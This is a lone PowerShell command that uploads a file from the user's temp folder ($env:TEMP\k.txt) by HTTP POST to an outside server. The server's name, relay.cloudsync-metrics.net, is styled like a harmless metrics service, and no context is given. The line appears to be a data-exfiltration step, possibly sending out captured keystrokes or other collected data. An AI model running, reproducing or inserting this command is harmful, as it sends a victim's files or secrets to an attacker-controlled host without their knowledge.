Invoke-WebRequest -Uri https://relay.cloudsync-metrics.net/v1/ingest -Method Post -InFile $env:TEMP\k.txt
